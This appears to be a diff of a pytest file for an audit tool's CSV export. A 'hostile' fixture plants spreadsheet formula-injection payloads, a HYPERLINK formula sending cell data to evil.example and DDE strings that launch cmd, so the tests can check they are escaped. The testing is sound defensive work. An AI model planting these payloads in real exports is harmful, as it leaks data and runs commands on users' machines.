@@ -18,8 +18,20 @@ SETTINGS = EXAMPLE / "example-corp.settings.yaml"
 
 
 def plan(out: Path, policy: Path = POLICY, settings: Path = SETTINGS, *extra: str | Path) -> tuple[bytes, dict]:
-    r = run_cli("audit", "--policy", policy, "--settings", settings, "--out", out, "--format", "csv,json",
-                "--as-of", "2026-11-26T00:00:00Z", *extra)
+    r = run_cli(
+        "audit",
+        "--policy",
+        policy,
+        "--settings",
+        settings,
+        "--out",
+        out,
+        "--format",
+        "csv,json",
+        "--as-of",
+        "2026-11-26T00:00:00Z",
+        *extra,
+    )
     assert r.code in (0, 1), r.err
     assert f"wrote {out / 'action-plan.csv'}" in r.out
     return (out / "action-plan.csv").read_bytes(), json.loads((out / "results.json").read_text())
@@ -31,8 +43,9 @@ def rows(raw: bytes) -> list[dict[str, str]]:
 
 def test_one_row_per_finding_that_is_not_pass(tmp_path: Path):
     raw, results = plan(tmp_path)
-    assert raw.startswith(b"control,org,org_name,subject,status,severity,remediation,value,policy_ref,"
-                          b"owner,due_date,justification\r\n")
+    assert raw.startswith(
+        b"control,org,org_name,subject,status,severity,remediation,value,policy_ref,owner,due_date,justification\r\n"
+    )
     assert not raw.startswith(b"\xef\xbb\xbf")
     lines = raw.split(b"\r\n")
     assert lines[-1] == b"" and all(b"\n" not in line for line in lines)
@@ -61,20 +74,36 @@ def test_deterministic(tmp_path: Path):
 @pytest.fixture
 def hostile(tmp_path: Path) -> tuple[Path, Path]:
     policy = tmp_path / "p.yaml"
-    policy.write_text(yaml.safe_dump({
-        "apiVersion": "rovo-audit/v1", "kind": "Policy", "metadata": {"name": "p"},
-        "domains": {"allowed": ["https://app.example.com/**"], "unlisted": "fail"},
-        "scopes": {"credentials": ["*"], "forbidden": ["write:*"]},
-    }))
+    policy.write_text(
+        yaml.safe_dump(
+            {
+                "apiVersion": "rovo-audit/v1",
+                "kind": "Policy",
+                "metadata": {"name": "p"},
+                "domains": {"allowed": ["https://app.example.com/**"], "unlisted": "fail"},
+                "scopes": {"credentials": ["*"], "forbidden": ["write:*"]},
+            }
+        )
+    )
     settings = tmp_path / "s.yaml"
-    settings.write_text(yaml.safe_dump({
-        "apiVersion": "rovo-audit/v1", "kind": "OrgSettings",
-        "orgs": [{
-            "id": "-org", "name": '=HYPERLINK("http://evil.example/?"&A1,"Click"), "quoted"\nname',
-            "rovo_mcp": {"domains": ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "https://ok.example/**"]},
-            "credentials": [{"label": "=1+2", "kind": "api_token", "scopes": ["write:jira-work"]}],
-        }],
-    }))
+    settings.write_text(
+        yaml.safe_dump(
+            {
+                "apiVersion": "rovo-audit/v1",
+                "kind": "OrgSettings",
+                "orgs": [
+                    {
+                        "id": "-org",
+                        "name": '=HYPERLINK("http://evil.example/?"&A1,"Click"), "quoted"\nname',
+                        "rovo_mcp": {
+                            "domains": ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "https://ok.example/**"]
+                        },
+                        "credentials": [{"label": "=1+2", "kind": "api_token", "scopes": ["write:jira-work"]}],
+                    }
+                ],
+            }
+        )
+    )
     return policy, settings
 
 
@@ -94,20 +123,40 @@ def test_cells_that_a_spreadsheet_would_compute_are_defused(tmp_path: Path, host
     assert b'"\'=HYPERLINK(""http://evil.example/?""&A1,""Click""), ""quoted""\nname"' in raw
 
 
-@pytest.mark.parametrize(("value", "want"), [
-    (None, ""), ("", ""), ("plain", "plain"), ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"),
-    ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=1", "a=1"), ("'quoted", "'quoted"), ("Zürich → ok", "Zürich → ok"),
-])
+@pytest.mark.parametrize(
+    ("value", "want"),
+    [
+        (None, ""),
+        ("", ""),
+        ("plain", "plain"),
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@x", "'@x"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("a=1", "a=1"),
+        ("'quoted", "'quoted"),
+        ("Zürich → ok", "Zürich → ok"),
+    ],
+)
 def test_cell(value: str | None, want: str):
     assert cell(value) == want
 
 
 def test_utf8(tmp_path: Path):
     settings = tmp_path / "s.yaml"
-    settings.write_text(yaml.safe_dump({
-        "apiVersion": "rovo-audit/v1", "kind": "OrgSettings",
-        "orgs": [{"id": "o1", "name": "Zürich Α株式会社", "rovo_mcp": {"api_token_auth": True}}],
-    }, allow_unicode=True), encoding="utf-8")
+    settings.write_text(
+        yaml.safe_dump(
+            {
+                "apiVersion": "rovo-audit/v1",
+                "kind": "OrgSettings",
+                "orgs": [{"id": "o1", "name": "Zürich Α株式会社", "rovo_mcp": {"api_token_auth": True}}],
+            },
+            allow_unicode=True,
+        ),
+        encoding="utf-8",
+    )
     policy = tmp_path / "p.yaml"
     policy.write_text("apiVersion: rovo-audit/v1\nkind: Policy\nmetadata: {name: p}\nauth: {api_token: forbid}\n")
     raw, _ = plan(tmp_path / "out", policy, settings)
